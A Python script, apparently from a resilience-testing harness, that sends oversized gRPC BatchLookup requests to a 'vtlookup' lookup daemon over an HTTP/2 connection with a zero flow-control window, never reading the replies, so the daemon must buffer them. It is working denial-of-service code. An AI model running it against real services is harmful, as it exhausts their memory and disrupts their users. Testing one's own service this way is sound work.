"""Makes batches and does not read the replies: the client opens no window, so
the daemon must keep the replies."""

import attack
import hits
import http2

ITEMS = 10_000
BATCH = "/vtlookup.v1.LookupService/BatchLookup"


def field(number, body):
    """A field of protobuf with bytes in it."""
    return (http2.varint(number << 3 | 2, 8) + length(len(body)) + body)


def length(value):
    """A varint of protobuf."""
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def batch(items):
    """BatchLookupRequest with the cached item so many times."""
    return field(1, field(2, hits.NAME)) * items


def leave_unread(target, stage, path, message, end, count):
    """`count` calls on one connection, whose replies have no window."""
    connection = http2.Connection(target, {http2.INITIAL_WINDOW_SIZE: 0})
    stage.held.append(connection)
    calls = 0
    while calls < count and not stage.over() and not connection.closed:
        stream = connection.call(path)
        connection.send_body(stream, message, end, stage.until)
        calls += 1
    # The daemon may still be working on the batches.
    while not stage.over() and connection.pump(0.5):
        pass
    stage.figures["calls"] = calls


def run(target, stage):
    """Batches."""
    leave_unread(target, stage, BATCH, http2.grpc_message(batch(ITEMS)), True,
                 400)


if __name__ == "__main__":
    attack.main(run, seconds=5)
